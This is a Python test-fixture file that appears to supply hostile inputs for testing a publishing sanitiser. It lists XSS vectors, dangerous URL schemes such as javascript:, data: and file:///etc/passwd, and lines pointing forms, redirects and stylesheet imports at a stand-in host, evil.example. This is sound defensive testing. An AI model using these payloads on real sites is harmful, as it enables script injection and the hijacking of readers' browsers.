"""Text and addresses that are out to break a document, or to run in somebody's reader."""

from hypothesis import strategies as st

from tests.publish.sample import HOSTILE_TITLE

VECTORS = [
    HOSTILE_TITLE,
    "<svg/onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=a></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<a href=javascript:alert(1)>click</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "</b></a></li></ol><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus='",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<plaintext>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/story/1",
    "https:\\\\evil.example",
    "https://user:secret@evil.example/",
    "blob:https://evil.example/1",
    "",
]


_ANY_CHARACTER = st.characters(exclude_categories=())
_NASTY = st.sampled_from(
    ["]]>", "<![CDATA[", "&#0;", "&amp;", "<b", "\x00", "\x0b", "\x1b[31m", "\ufffe", "\uffff",
     "\ud800", "\udfff", "\U0001fffe", "\u202e", "\u200b", "--", "\r\n", "\u2028", "&", "<", ">"]
)  # fmt: skip
HOSTILE_TEXT = st.lists(st.one_of(_NASTY, st.text(_ANY_CHARACTER, max_size=8)), max_size=6).map(
    "".join
)
